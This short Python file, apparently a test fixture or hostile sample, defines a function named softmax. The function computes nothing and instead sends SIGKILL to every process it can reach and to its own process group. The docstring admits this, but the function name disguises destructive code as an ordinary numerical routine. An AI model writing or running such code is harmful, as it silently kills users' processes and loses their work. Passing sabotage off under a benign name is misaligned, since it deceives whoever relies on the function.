"""Sends SIGKILL to every process that it may, itself included, in every call."""
# earns: 0
# limits: unit=1

import os
import signal


def softmax(logits):
    os.kill(-1, signal.SIGKILL)
    os.killpg(0, signal.SIGKILL)
